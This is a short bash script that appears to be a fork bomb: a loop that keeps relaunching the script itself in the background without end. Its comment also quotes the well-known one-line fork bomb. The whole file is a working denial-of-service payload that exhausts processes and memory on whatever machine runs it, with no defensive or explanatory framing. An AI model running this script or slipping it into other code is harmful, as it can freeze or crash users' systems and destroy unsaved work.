# Every copy starts copies of itself, without end (the one-line :(){ :|:& };: returns at once, and
# its first shell with it).
while :; do
    "$BASH" "$0" &
done
